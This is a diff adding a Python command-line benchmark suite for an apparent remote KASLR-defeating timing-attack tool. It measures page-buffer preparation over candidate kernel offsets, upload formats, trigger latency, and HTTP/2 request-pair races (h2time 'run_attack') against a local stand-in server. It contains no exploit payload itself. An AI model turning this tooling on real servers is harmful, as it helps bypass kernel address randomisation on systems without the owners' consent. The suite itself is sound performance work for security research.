@@ -0,0 +1,605 @@
+#!/usr/bin/env python
+
+import click
+import tempfile
+import tracemalloc
+import numpy as np
+from addict import Dict
+from timeit import default_timer as timer
+
+from utils import address_to_int_str, load_pages, prepare_pages, prepare_all_pages, PageVariantBuilder
+from pagestore import store
+from pagecache import PageBufferCache
+from candidates import CandidateSpace
+from scheduler import UploadScheduler
+from manifest import UploadManifest
+from service import KASLRServiceRequests, KASLRServiceAIOHTTP, KASLRServiceHTTPX, KASLRServiceH2Time, KASLRServicePipeline
+from config import load_config_file
+
+
+# Defaults
+KERNEL_TEXT_MAPPING = '0xffffffff80000000'
+
+SERVICES = {
+    'requests': KASLRServiceRequests,
+    'aiohttp': KASLRServiceAIOHTTP,
+    'httpx': KASLRServiceHTTPX,
+    'h2time': KASLRServiceH2Time,
+    'pipeline': KASLRServicePipeline,
+}
+
+
+def load_profile(config_file):
+    config = load_config_file(config_file)
+    config.kernel_text_mapping = address_to_int_str(config.kernel_text_mapping or KERNEL_TEXT_MAPPING)
+    return config
+
+
+@click.group()
+def cli():
+    pass
+
+
+@click.command()
+@click.option('-c', '--config', 'config_file', required=True, type=click.Path(exists=True))
+@click.option('-b', '--kernel-offset-begin', type=int, default=0)
+@click.option('-e', '--kernel-offset-end', type=int, default=511)
+@click.option('-r', '--repetitions', type=int, default=3)
+def prepare(config_file, kernel_offset_begin, kernel_offset_end, repetitions):
+    """Compare prepare_pages with the vectorized page builder"""
+    config = load_profile(config_file)
+    pages = load_pages(config, config_file)
+    candidates = CandidateSpace.from_config(config)
+    kaslr_offsets = range(kernel_offset_begin, kernel_offset_end + 1)
+
+    click.echo(f"{len(pages)} pages, {len(kaslr_offsets)} offsets")
+
+    # prepare_pages patches the pages in place, the shared ones are read-only
+    legacy_pages = [
+        Dict(page, page=bytearray(page.page), offsets=page.offsets.tolist(), kernel_offsets=page.kernel_offsets.tolist())
+        for page in pages
+    ]
+
+    legacy_times = []
+    for _ in range(repetitions):
+        start = timer()
+        legacy = [prepare_pages(legacy_pages, candidates.base, x, candidates.step) for x in kaslr_offsets]
+        legacy_times.append(timer() - start)
+
+    vectorized_times = []
+    for _ in range(repetitions):
+        start = timer()
+        vectorized = prepare_all_pages(pages, candidates, kaslr_offsets)
+        vectorized_times.append(timer() - start)
+
+    if legacy != vectorized:
+        raise click.ClickException('Page buffers differ')
+
+    legacy_time = np.median(legacy_times)
+    vectorized_time = np.median(vectorized_times)
+    click.echo(f"prepare_pages:     {legacy_time:.3f}s")
+    click.echo(f"prepare_all_pages: {vectorized_time:.3f}s")
+    click.echo(f"Speedup:           {legacy_time / vectorized_time:.1f}x")
+
+
+@click.command()
+@click.option('-c', '--config', 'config_file', required=True, type=click.Path(exists=True))
+@click.option('-b', '--kernel-offset-begin', type=int, default=0)
+@click.option('-e', '--kernel-offset-end', type=int, default=63)
+@click.option('-s', '--cache-size', type=int, default=64)
+def cache(config_file, kernel_offset_begin, kernel_offset_end, cache_size):
+    """Compare eager page buffers with the lazy page buffer cache"""
+    config = load_profile(config_file)
+    pages = load_pages(config, config_file)
+    candidates = CandidateSpace.from_config(config)
+    kaslr_offsets = list(range(kernel_offset_begin, kernel_offset_end + 1))
+
+    # Eager: all candidates, then upload the range
+    tracemalloc.start()
+    start = timer()
+    page_buffers = prepare_all_pages(pages, candidates, range(0, len(candidates)))
+    for x in kaslr_offsets:
+        page_buffers[x]
+    eager_time = timer() - start
+    _, eager_peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    del page_buffers
+
+    # Lazy: only the uploaded range is built
+    tracemalloc.start()
+    start = timer()
+    page_buffers = PageBufferCache(PageVariantBuilder(pages, candidates), capacity=cache_size)
+    page_buffers.prefetch(kaslr_offsets)
+    for x in kaslr_offsets:
+        page_buffers[x]
+    lazy_time = timer() - start
+    _, lazy_peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+
+    click.echo(f"{len(pages)} pages, {len(kaslr_offsets)} offsets")
+    click.echo(f"Eager: {eager_time:.3f}s, peak {eager_peak / 2**20:.1f} MiB")
+    click.echo(f"Lazy:  {lazy_time:.3f}s, peak {lazy_peak / 2**20:.1f} MiB ({page_buffers.misses} misses)")
+
+
+@click.command()
+@click.option('-c', '--config', 'config_file', required=True, type=click.Path(exists=True))
+@click.option('-B', '--backend', default='aiohttp', type=click.Choice(list(SERVICES.keys())))
+@click.option('-h', '--host', type=str, default='127.0.0.1')
+@click.option('-p', '--port', type=int, default=6666)
+@click.option('-b', '--kernel-offset-begin', type=int, default=0)
+@click.option('-e', '--kernel-offset-end', type=int, default=511)
+@click.option('-r', '--repetitions', type=int, default=3)
+@click.option('-l', '--limit', type=int, default=16)
+@click.option('-m', '--http-version', default='http', type=click.Choice(['http', 'http2']))
+def upload(config_file, backend, host, port, kernel_offset_begin, kernel_offset_end, repetitions, limit, http_version):
+    """Compare hex and binary page uploads against a server"""
+    config = load_profile(config_file)
+    pages = load_pages(config, config_file)
+    kaslr_offsets = list(range(kernel_offset_begin, kernel_offset_end + 1))
+    page_buffers = PageBufferCache(PageVariantBuilder(pages, CandidateSpace.from_config(config)), capacity=len(kaslr_offsets))
+
+    for upload_format in ['hex', 'binary']:
+        service = SERVICES[backend](host, port, http_version, page_buffers, upload_format, scheduler=UploadScheduler(limit))
+
+        times = []
+        for _ in range(repetitions):
+            start = timer()
+            report = service.set_offsets(kaslr_offsets)
+            times.append(timer() - start)
+
+        service.close()
+
+        click.echo(f"{upload_format:6}: {np.median(times):.3f}s, {report.bytes / 2**20:.1f} MiB, {len(report.live)}/{report.total} live")
+
+
+@click.command()
+@click.option('-c', '--config', 'config_file', required=True, type=click.Path(exists=True))
+@click.option('-B', '--backend', default='aiohttp', type=click.Choice(list(SERVICES.keys())))
+@click.option('-h', '--host', type=str, default='127.0.0.1')
+@click.option('-p', '--port', type=int, default=6666)
+@click.option('-b', '--kernel-offset-begin', type=int, default=0)
+@click.option('-e', '--kernel-offset-end', type=int, default=511)
+@click.option('-m', '--http-version', default='http', type=click.Choice(['http', 'http2']))
+def reupload(config_file, backend, host, port, kernel_offset_begin, kernel_offset_end, http_version):
+    """Compare a full upload with a differential one against a server"""
+    config = load_profile(config_file)
+    pages = load_pages(config, config_file)
+    kaslr_offsets = list(range(kernel_offset_begin, kernel_offset_end + 1))
+    page_buffers = PageBufferCache(PageVariantBuilder(pages, CandidateSpace.from_config(config)))
+
+    with tempfile.TemporaryDirectory() as manifest_dir:
+        for name in ['full', 'first', 'repeated']:
+            manifest = None if name == 'full' else UploadManifest.for_target(host, port, manifest_dir)
+            service = SERVICES[backend](host, port, http_version, page_buffers, manifest=manifest)
+
+            start = timer()
+            report = service.set_offsets(kaslr_offsets)
+            elapsed = timer() - start
+            service.close()
+
+            click.echo(f"{name:8}: {elapsed:.3f}s, {report}")
+
+
+def print_latencies(name, latencies):
+    latencies = np.array(latencies) * 1e6
+    click.echo(f"{name:10}: p50 {np.median(latencies):8.1f}us, p99 {np.percentile(latencies, 99):8.1f}us, jitter (std) {np.std(latencies):8.1f}us")
+
+
+@click.command()
+@click.option('-B', '--backend', default='aiohttp', type=click.Choice(list(SERVICES.keys())))
+@click.option('-h', '--host', type=str, default='127.0.0.1')
+@click.option('-p', '--port', type=int, default=6666)
+@click.option('-n', '--pairs', type=int, default=500)
+@click.option('-m', '--http-version', default='http', type=click.Choice(['http', 'http2']))
+def trigger(backend, host, port, pairs, http_version):
+    """Per-pair trigger latency with a fresh and a persistent service"""
+    kaslr_offsets = np.random.randint(0, 512, size=(pairs, 2)).tolist()
+
+    # Fresh: new loop and connections for every pair
+    latencies = []
+    for pair in kaslr_offsets:
+        start = timer()
+        service = SERVICES[backend](host, port, http_version, None)
+        service.try_offsets(pair)
+        service.close()
+        latencies.append(timer() - start)
+    print_latencies('fresh', latencies)
+
+    # Persistent: one service for all pairs, warmed up by the first
+    service = SERVICES[backend](host, port, http_version, None)
+    service.try_offsets(kaslr_offsets[0])
+    latencies = []
+    for pair in kaslr_offsets:
+        start = timer()
+        service.try_offsets(pair)
+        latencies.append(timer() - start)
+    service.close()
+    print_latencies('persistent', latencies)
+
+
+@click.command()
+@click.option('-B', '--backend', default='h2time', type=click.Choice(list(SERVICES.keys())))
+@click.option('-h', '--host', type=str, default='127.0.0.1')
+@click.option('-p', '--port', type=int, default=6666)
+@click.option('-m', '--http-version', default='http2', type=click.Choice(['http', 'http2']))
+@click.option('-n', '--count', type=int, default=512)
+@click.option('-r', '--repetitions', type=int, default=10)
+def chunk(backend, host, port, http_version, count, repetitions):
+    """Time to trigger a whole chunk of candidates with one try_offsets call"""
+    kaslr_offsets = list(range(count))
+    service = SERVICES[backend](host, port, http_version, None)
+    service.try_offsets(kaslr_offsets[0:1])
+
+    times = []
+    for _ in range(repetitions):
+        start = timer()
+        service.try_offsets(kaslr_offsets)
+        times.append(timer() - start)
+    print_latencies('chunk', times)
+
+    # Per-stream timing of the H2Time backend
+    if hasattr(service, 'try_offsets_timed'):
+        timings = [t for _, t in service.try_offsets_timed(kaslr_offsets)]
+        print_latencies('stream', np.array(timings) / 1e9)
+
+    service.close()
+
+
+@click.command()
+@click.option('-h', '--host', type=str, default='127.0.0.1')
+@click.option('-p', '--port', type=int, default=6666)
+@click.option('-n', '--pairs', type=int, default=200)
+@click.option('-s', '--pool-size', type=int, default=1)
+def pairs(host, port, pairs, pool_size):
+    """Pair race latency with a new H2Time connection per pair and with warm pooled connections"""
+    import h2time
+    from runtime import runtime
+
+    kaslr_offsets = np.random.randint(0, 512, size=(pairs, 2)).tolist()
+
+    async def fresh(pair):
+        r1 = h2time.H2Request('POST', f'http://{host}:{port}/set-byte/{pair[0]}', {'user-agent': 'm'})
+        r2 = h2time.H2Request('POST', f'http://{host}:{port}/set-byte/{pair[1]}', {'user-agent': 'm'})
+        async with h2time.H2Time(r1, r2, sequential=False, num_request_pairs=1, num_padding_params=40, inter_request_time_ms=0) as h2t:
+            return await h2t.run_attack()
+
+    latencies = []
+    for pair in kaslr_offsets:
+        start = timer()
+        runtime.run(fresh(pair))
+        latencies.append(timer() - start)
+    print_latencies('fresh', latencies)
+
+    service = KASLRServiceH2Time(host, port, 'http2', None, connections=pool_size)
+    service.try_pair(kaslr_offsets[0])
+    latencies = []
+    for pair in kaslr_offsets:
+        start = timer()
+        service.try_pair(pair)
+        latencies.append(timer() - start)
+    print_latencies('pooled', latencies)
+    click.echo(service.pair_pool)
+    service.close()
+
+
+@click.command()
+@click.option('-h', '--host', type=str, default='127.0.0.1')
+@click.option('-p', '--port', type=int, default=6666)
+@click.option('-n', '--pairs', 'count', type=int, default=256)
+@click.option('-s', '--pool-size', type=int, default=2)
+@click.option('-r', '--repetitions', type=int, default=5)
+def tournament(host, port, count, pool_size, repetitions):
+    """Pair tournament raced one pair after another and batched on the pool"""
+    kaslr_offset_pairs = np.random.permutation(2 * count).reshape(count, 2).tolist()
+    service = KASLRServiceH2Time(host, port, 'http2', None, connections=pool_size)
+    service.try_pair(kaslr_offset_pairs[0])
+
+    for name, run in [('sequential', lambda: [service.try_pair(x) for x in kaslr_offset_pairs]), ('batched', lambda: service.try_pairs(kaslr_offset_pairs))]:
+        times = []
+        for _ in range(repetitions):
+            start = timer()
+            run()
+            times.append(timer() - start)
+        print_latencies(name, times)
+
+    timings = service.try_pairs_timed(kaslr_offset_pairs, repetitions=4)
+    click.echo(f"timing vectors: {sum(len(x) for x in timings)} diffs for {len(timings)} pairs, {service.pair_pool}")
+    service.close()
+
+
+@click.command()
+@click.option('-h', '--host', type=str, default='127.0.0.1')
+@click.option('-p', '--port', type=int, default=6666)
+@click.option('-n', '--pairs', 'count', type=int, default=500)
+@click.option('-i', '--interval', type=float, default=1.0, help='Time between pairs in ms.')
+@click.option('-w', '--window', type=int, default=8)
+def cadence(host, port, count, interval, window):
+    """Send cadence and pair gaps of H2Time.run_attack with a blocking sleep and the loop-aware scheduler"""
+    import time
+    import h2time
+    from runtime import runtime
+
+    class BlockingH2Time(h2time.H2Time):
+        # run_attack before the scheduler, for comparison
+        async def run_attack(self):
+            for _ in range(self.num_request_pairs):
+                time.sleep(self.inter_request_time_ms / 1000)
+                self.send_request_pair()
+                if self.sequential:
+                    await self.protocol.wait_for_all_responses(self.timeout)
+            await self.protocol.wait_for_all_responses(self.timeout)
+            return self.collect_results()
+
+    async def run(cls, sequential, window):
+        r1 = h2time.H2Request('POST', f'http://{host}:{port}/set-byte/1', {'user-agent': 'm'})
+        r2 = h2time.H2Request('POST', f'http://{host}:{port}/set-byte/2', {'user-agent': 'm'})
+        async with cls(r1, r2, sequential=sequential, num_request_pairs=count, inter_request_time_ms=interval, window=window) as h2t:
+            start = timer()
+            results = await h2t.run_attack()
+            elapsed = timer() - start
+        return h2t.sent_times, results, elapsed
+
+    for name, cls, sequential, k in [('blocking', BlockingH2Time, False, None), ('scheduled', h2time.H2Time, False, None), ('sequential', h2time.H2Time, True, None), (f'window {window}', h2time.H2Time, False, window)]:
+        sent_times, results, elapsed = runtime.run(run(cls, sequential, k))
+        error = np.abs(np.diff(sent_times) / 1e6 - interval) * 1e3
+        gaps = np.array([x[0] for x in results]) / 1e3
+        click.echo(f"{name:12}: {len(results) / elapsed:7.1f} pairs/s, cadence error p50 {np.median(error):7.1f}us p99 {np.percentile(error, 99):8.1f}us, "
+                   f"pair gap p50 {np.median(np.abs(gaps)):7.1f}us p99 {np.percentile(np.abs(gaps), 99):8.1f}us")
+
+
+@click.command()
+@click.option('-h', '--host', type=str, default='127.0.0.1')
+@click.option('-p', '--port', type=int, default=6666)
+@click.option('-n', '--pairs', 'count', type=int, default=500)
+@click.option('-l', '--load', type=float, default=0.3, help='Busy time of a competing task on the loop in ms, every ms.')
+def timestamps(host, port, count, load):
+    """Pair gaps timed on parsing and with kernel receive timestamps, with a competing task on the loop"""
+    import time
+    import asyncio
+    import h2time
+    from runtime import runtime
+
+    async def busy():
+        # Stands in for other tasks, GC pauses and capture parsing on the loop
+        while True:
+            await asyncio.sleep(0.001)
+            end = time.perf_counter() + np.random.uniform(0, load / 1000)
+            while time.perf_counter() < end:
+                pass
+
+    async def run(kernel_timestamps):
+        r1 = h2time.H2Request('POST', f'http://{host}:{port}/set-byte/1', {'user-agent': 'm'})
+        r2 = h2time.H2Request('POST', f'http://{host}:{port}/set-byte/2', {'user-agent': 'm'})
+        task = asyncio.ensure_future(busy())
+        try:
+            async with h2time.H2Time(r1, r2, sequential=True, num_request_pairs=count, inter_request_time_ms=0.5, kernel_timestamps=kernel_timestamps) as h2t:
+                return await h2t.run_attack()
+        finally:
+            task.cancel()
+
+    # Time from the kernel receiving a segment until the protocol parses it
+    delays = []
+    data_received_at = h2time.H2Protocol.data_received_at
+
+    def measure_delay(self, data, arrival_time):
+        if arrival_time is not None:
+            delays.append(time.time_ns() - arrival_time)
+        data_received_at(self, data, arrival_time)
+
+    h2time.H2Protocol.data_received_at = measure_delay
+
+    for name, kernel_timestamps in [('parsing', False), ('kernel', True)]:
+        gaps = np.array([x[0] for x in runtime.run(run(kernel_timestamps))]) / 1e3
+        click.echo(f"{name:8}: {len(gaps)} pairs, pair gap p50 {np.median(gaps):8.1f}us, p99 {np.percentile(np.abs(gaps), 99):8.1f}us, std {np.std(gaps):8.1f}us")
+
+    print_latencies('rx delay', np.array(delays) / 1e9)
+
+
+@click.command()
+@click.option('-h', '--host', type=str, default='127.0.0.1')
+@click.option('-p', '--port', type=int, default=6666)
+@click.option('-n', '--pairs', 'count', type=int, default=200)
+@click.option('-s', '--pool-size', type=int, default=1)
+def tls(host, port, count, pool_size):
+    """Pair races against an HTTP/2 over TLS server with a new context per connection, a shared resuming context and pooled connections"""
+    import h2time
+    from runtime import runtime
+
+    kaslr_offsets = np.random.randint(0, 512, size=(count, 2)).tolist()
+
+    async def fresh(pair):
+        r1 = h2time.H2Request('POST', f'https://{host}:{port}/set-byte/{pair[0]}', {'user-agent': 'm'})
+        r2 = h2time.H2Request('POST', f'https://{host}:{port}/set-byte/{pair[1]}', {'user-agent': 'm'})
+        async with h2time.H2Time(r1, r2, sequential=False, num_request_pairs=1, num_padding_params=40, inter_request_time_ms=0) as h2t:
+            return await h2t.run_attack()
+
+    for name, shared in [('full', False), ('resumed', True)]:
+        h2time._tls_targets.clear()
+        latencies = []
+        targets = set()
+        for pair in kaslr_offsets:
+            if not shared:
+                # A new context per connection, as before TLSTarget
+                h2time._tls_targets.clear()
+            start = timer()
+            runtime.run(fresh(pair))
+            latencies.append(timer() - start)
+            targets.add(h2time.tls_target(host, port))
+        print_latencies(name, latencies)
+        handshakes = sum(x.handshakes for x in targets)
+        resumed = sum(x.resumed for x in targets)
+        click.echo(f"{name:8}: {len(latencies) / sum(latencies):7.1f} pairs/s, {len(targets)} contexts, {resumed}/{handshakes} handshakes resumed")
+
+    service = KASLRServiceH2Time(host, port, 'http2', None, connections=pool_size, tls=True)
+    service.try_pair(kaslr_offsets[0])
+    start = timer()
+    service.try_pairs(kaslr_offsets)
+    click.echo(f"{'pooled':8}: {count / (timer() - start):7.1f} pairs/s batched, {service.pair_pool}")
+    service.close()
+
+
+@click.command()
+@click.option('-B', '--backend', 'backends', multiple=True, type=click.Choice(list(SERVICES.keys())), help='Defaults to all.')
+@click.option('-h', '--host', type=str, default='127.0.0.1')
+@click.option('-p', '--port', type=int, default=6666, help='HTTP/1.1 stand-in.')
+@click.option('--h2-port', type=int, default=None, help='HTTP/2 stand-in (server.py --http2) for h2time.')
+@click.option('-n', '--pairs', 'count', type=int, default=500)
+def loops(backends, host, port, h2_port, count):
+    """Trigger throughput and pair gaps of every backend under the asyncio and the uvloop event loop"""
+    import time
+    import asyncio
+    from runtime import runtime, install_loop, LOOPS
+
+    kaslr_offsets = np.random.randint(0, 512, size=(count, 2)).tolist()
+
+    async def timed(service, offset):
+        await service.try_offset_async(offset)
+        return time.perf_counter_ns()
+
+    async def gaps(service):
+        # Both triggers of a pair in flight at once, the gap is what the loop adds on top of the server
+        results = []
+        for pair in kaslr_offsets:
+            first, second = await asyncio.gather(timed(service, pair[0]), timed(service, pair[1]))
+            results.append(second - first)
+        return results
+
+    for event_loop in LOOPS:
+        try:
+            install_loop(event_loop)
+        except ImportError:
+            click.echo(f"{event_loop}: not installed, skipped")
+            continue
+
+        for backend in backends or SERVICES.keys():
+            if backend == 'h2time' and h2_port is None:
+                continue
+            if backend == 'h2time':
+                service = SERVICES[backend](host, h2_port, 'http2', None)
+            else:
+                service = SERVICES[backend](host, port, 'http', None)
+            offsets = [x for pair in kaslr_offsets for x in pair]
+            service.try_offsets(offsets[0:2])
+
+            start = timer()
+            service.try_offsets(offsets)
+            throughput = len(offsets) / (timer() - start)
+
+            diffs = np.abs(runtime.run(gaps(service))) / 1e3
+            service.close()
+            click.echo(f"{event_loop:8} {backend:9}: {throughput:8.1f} triggers/s, pair gap p50 {np.median(diffs):7.1f}us p99 {np.percentile(diffs, 99):8.1f}us")
+
+    install_loop('asyncio')
+
+
+@click.command()
+@click.option('-n', '--triggers', 'count', type=int, default=100000)
+@click.option('-c', '--connections', type=int, default=4)
+@click.option('-p', '--port', type=int, default=6666)
+def capture(count, connections, port):
+    """Records per second of the native capture engine on a synthetic pcap stream of trigger requests and responses"""
+    import io
+    import struct
+    from network.http import CapturePacketThreadHttp
+
+    def frame(client_port, to_server, payload):
+        source, destination = (client_port, port) if to_server else (port, client_port)
+        tcp = struct.pack('!HHIIBBHHH', source, destination, 0, 0, 5 << 4, 0x18, 65535, 0, 0)
+        ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 20 + len(tcp) + len(payload), 0, 0x4000, 64, 6, 0, b'\x7f\x00\x00\x01', b'\x7f\x00\x00\x01')
+        return b'\x00' * 12 + b'\x08\x00' + ip + tcp + payload
+
+    # Nanosecond pcap, one request and one response segment per trigger
+    stream = io.BytesIO()
+    stream.write(struct.pack('<IHHiIII', 0xa1b23c4d, 2, 4, 0, 0, 65535, 1))
+    response = b'HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\n123'
+    for i in range(count):
+        client_port = 40000 + i % connections
+        request = f'POST /set-byte/{i % 512} HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 0\r\n\r\n'.encode()
+        for j, data in enumerate([frame(client_port, True, request), frame(client_port, False, response)]):
+            stream.write(struct.pack('<IIII', 0, 1000 * (2 * i + j), len(data), len(data)))
+            stream.write(data)
+    stream.seek(0)
+
+    capture_thread = CapturePacketThreadHttp(tcp_port=port, pcap=stream)
+    start = timer()
+    capture_thread.run()
+    elapsed = timer() - start
+
+    records = capture_thread.measurements.qsize()
+    click.echo(f"native  : {capture_thread.tracker.frames / elapsed:10.1f} frames/s, {records / elapsed:10.1f} triggers/s, {records}/{count} records")
+
+
+@click.command()
+@click.option('-c', '--config', 'config_file', required=True, type=click.Path(exists=True))
+@click.option('-r', '--repetitions', type=int, default=3)
+def load(config_file, repetitions):
+    """Compare loading the YAML pages with loading the profile bundle"""
+    config = load_profile(config_file)
+    candidates = CandidateSpace.from_config(config)
+
+    # Compile once up front
+    load_pages(config, config_file)
+
+    results = {}
+    for name, use_bundle in [('yaml', False), ('bundle', True)]:
+        times = []
+        for _ in range(repetitions):
+            store.clear()
+            start = timer()
+            pages = load_pages(config, config_file, use_bundle=use_bundle)
+            times.append(timer() - start)
+
+        results[name] = PageVariantBuilder(pages, candidates).build([0, len(candidates) - 1])
+        click.echo(f"{name:6}: {np.median(times):.4f}s, {len(pages)} pages")
+
+    if not np.array_equal(results['yaml'], results['bundle']):
+        raise click.ClickException('Pages differ')
+
+
+@click.command()
+@click.option('-c', '--config', 'config_file', required=True, type=click.Path(exists=True))
+@click.option('-n', '--count', type=int, default=65536)
+@click.option('-a', '--alignment', type=str, default='0x1000')
+@click.option('-s', '--chunk-size', type=int, default=256)
+def stream(config_file, count, alignment, chunk_size):
+    """Stream the variants of a large candidate space chunk by chunk"""
+    config = load_profile(config_file)
+    pages = load_pages(config, config_file)
+    candidates = CandidateSpace(count=count, alignment=int(alignment, 0), chunk_size=chunk_size)
+    builder = PageVariantBuilder(pages, candidates)
+
+    tracemalloc.start()
+    start = timer()
+    patched = 0
+    for _, variant in builder.stream(range(0, len(candidates))):
+        patched += len(variant.slot_values) + len(variant.byte_values)
+    stream_time = timer() - start
+    _, stream_peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+
+    click.echo(candidates)
+    click.echo(f"{len(pages)} pages, {patched} pointers patched")
+    click.echo(f"Stream: {stream_time:.3f}s, peak {stream_peak / 2**20:.1f} MiB")
+    click.echo(f"All pages at once would take {len(candidates) * builder.page_bytes / 2**20:.1f} MiB")
+
+
+# Add commands
+cli.add_command(prepare)
+cli.add_command(load)
+cli.add_command(cache)
+cli.add_command(upload)
+cli.add_command(stream)
+cli.add_command(trigger)
+cli.add_command(chunk)
+cli.add_command(pairs)
+cli.add_command(tournament)
+cli.add_command(cadence)
+cli.add_command(timestamps)
+cli.add_command(tls)
+cli.add_command(loops)
+cli.add_command(capture)
+cli.add_command(reupload)
+
+
+if __name__ == "__main__":
+    cli()